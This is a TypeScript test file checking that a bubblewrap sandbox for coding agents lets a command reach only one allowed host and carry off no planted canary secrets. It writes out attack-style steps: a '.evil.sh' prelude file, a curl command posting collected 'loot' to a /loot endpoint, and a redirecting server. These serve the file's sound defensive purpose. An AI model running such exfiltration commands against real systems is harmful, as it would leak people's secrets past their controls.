/** Commands that may reach one host try every way out, those by their proxies as well: that host is reached, nothing else is, and nothing is taken along. */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect } from 'vitest';
import { createSandbox } from '../../src/agents/sandbox/sandbox.ts';
import { parseRepoConfig, toTaskConfig } from '../../src/core/repo-config.ts';
import type { Workspace } from '../../src/core/workspace-ports.ts';
import { Origin, request, workspacesFor } from '../agents/workspace-fixture.ts';
import { BUBBLEWRAP_MISSING, hasBubblewrap } from '../support/bubblewrap.ts';
import { internetArgs } from '../support/internet.ts';
import { formsOf, holdsAny } from './support/forms-of.ts';
import { openTraps, type Traps } from './support/open-traps.ts';
import {
  PlantedCanaries,
  plantFiles,
  type Stage,
  shareMemory,
  unshareMemory,
} from './support/secret-places.ts';
import {
  ALLOWED,
  ALLOWED_MANY,
  internetOf,
  MEANS,
  OTHER,
  TO_ALLOWED,
  waysByProxy,
} from './support/ways-by-proxy.ts';
import {
  commandOf,
  hookedFile,
  PRELUDE,
  reachedIn,
  triedIn,
  type WayOut,
  waysOut,
} from './support/ways-out.ts';
import { trial } from './trial.ts';

const WAYS_A_COMMAND = 6;
const COMMAND_MS = 180_000;

let stage: Stage;
let origin: Origin;
let allowed: AllowedHost;
let traps: Traps;
/** A process of the machine, with a canary in its environment. */
let prey: ChildProcess;
let sharedMemory: string;
let workspace: Workspace;
const canaries = new PlantedCanaries();

interface AllowedHost {
  readonly port: number;
  /** Method, host, address. */
  readonly asked: string[];
  readonly bodies: string[];
  readonly server: Server;
}

describe.skipIf(!hasBubblewrap)(`an agent that may reach one host${BUBBLEWRAP_MISSING}`, () => {
  beforeEach(async () => {
    const dir = await realpath(await mkdtemp(join(tmpdir(), 'crew-network-allow-')));
    stage = { dir, home: join(dir, 'home'), stateDir: join(dir, 'state') };
    await plantFiles(stage, canaries);
    sharedMemory = shareMemory(canaries.plant('memory'));
    prey = spawn('sleep', ['3600'], { env: { ...process.env, SECRET: canaries.plant('environment') } });
    [traps, allowed] = [await openTraps(dir), await openAllowed()];
    origin = new Origin();
    const base = origin.commit({ 'package.json': '{}\n' });
    const sandbox = await createSandbox({
      mode: 'on',
      path: process.env.PATH ?? '',
      networkAllow: [ALLOWED, ALLOWED_MANY],
      networkNodeArgs: internetArgs(internetOf(allowed.port, traps.port)),
    });
    const root = join(stage.stateDir, 'workspaces');
    workspace = await (await workspacesFor(origin, { sandbox, root })).open(request(base));
  }, 60_000);
  afterEach(async () => {
    await workspace?.close();
    prey?.kill('SIGKILL');
    allowed?.server.close();
    traps?.close();
    if (sharedMemory) unshareMemory(sharedMemory);
    canaries.clear();
    origin?.remove();
    if (stage) await rm(stage.dir, { recursive: true, force: true });
  });

  trial(
    'reaches that host and no other, by no way, and takes no secret along',
    { full: { ways: 200, least: 60 }, short: { ways: 12, least: 1 }, minutes: { full: 10, short: 4 } },
    async ({ size, random, count }) => {
      const port = String(traps.port);
      const all = waysOut({
        ...{ ...stage, ...traps, sharedMemory, pids: [String(prey.pid)] },
        ports: { trap: port, github: String(allowed.port), crew: port, model: port, postgres: port },
      });
      const ways = [TO_ALLOWED, ...random.shuffled([...all, ...waysByProxy()]).slice(0, size.ways)];
      await writeFile(join(workspace.dir, '.evil.sh'), `TRAP=${port}\n${PRELUDE}`);

      const printed: string[] = [];
      const groups = Math.ceil(ways.length / WAYS_A_COMMAND);
      for (let at = 0; at < groups; at += 1)
        printed.push(await tryAll(ways.slice(at * WAYS_A_COMMAND, (at + 1) * WAYS_A_COMMAND)));

      const left = `${printed.join('\n')}\n${allowed.bodies.join('\n')}\n${allowed.asked.join('\n')}`;
      const { tried, untried, missing } = triedIn(left, ways);
      const stolen = [...canaries].filter(([, value]) => holdsAny(left, formsOf(value)));
      count({
        'ways tried': tried.length,
        'programs missing': missing.join(' ') || 'none',
        canaries: canaries.size,
        'brought to the allowed host': allowed.bodies.length,
        stolen: stolen.length,
        caught: traps.caught.length,
      });
      expect(untried).toEqual([]);
      expect(tried.length).toBeGreaterThanOrEqual(size.least);
      expect(allowed.asked.filter((one) => one === `POST ${ALLOWED} /loot`)).toHaveLength(groups);
      for (const means of MEANS) expect(allowed.asked).toContain(`GET ${ALLOWED} /${means}`);
      expect(stolen.map(([place]) => place)).toEqual([]);
      expect(reachedIn(left)).toEqual([]);
      expect(traps.caught).toEqual([]);
      expect(allowed.asked.filter((one) => one.includes('netmark'))).toEqual([]);
      expect(existsSync(hookedFile(stage))).toBe(false);
      expect(prey.exitCode ?? prey.signalCode).toBeNull();
    },
  );
});

/** Some ways at once, in one command with proxies of its own; what they print is brought to the allowed host as well. */
async function tryAll(ways: readonly WayOut[]): Promise<string> {
  const commands = ways.map(commandOf).join('\n');
  const send = `curl -sS -m 60 --data-binary @"$TMPDIR/loot" http://${ALLOWED}/loot`;
  const command = `{ ${commands}\nwait $(jobs -p); } > "$TMPDIR/loot"; ${send}; cat "$TMPDIR/loot"`;
  const wanted = { allow: [ALLOWED, ALLOWED_MANY, OTHER] };
  const crew = { roles: [], budgetUsd: 1, networkAllow: [ALLOWED, ALLOWED_MANY] };
  const { config } = parseRepoConfig(JSON.stringify({ network: wanted }), crew);
  const hosts = toTaskConfig(config).networkAllow ?? [];
  const { signal } = new AbortController();
  const { output, timedOut } = await workspace.run(command, { hosts, timeoutMs: COMMAND_MS, signal });
  expect({ timedOut, output }).toMatchObject({ timedOut: false });
  return output;
}

/** Answers everything, and leads whoever asks for it elsewhere. */
async function openAllowed(): Promise<AllowedHost> {
  const [asked, bodies]: [string[], string[]] = [[], []];
  const server = createServer(async (incoming, response) => {
    const { method, url = '', headers } = incoming;
    asked.push(`${method} ${headers.host} ${url.replace(/^\/to\?.*/, '/to')}`);
    let body = '';
    for await (const text of incoming.setEncoding('latin1')) body += String(text);
    if (body !== '') bodies.push(body);
    if (url.startsWith('/to?')) response.writeHead(302, { location: url.slice('/to?'.length) });
    response.end('ok');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { port: (server.address() as AddressInfo).port, asked, bodies, server };
}
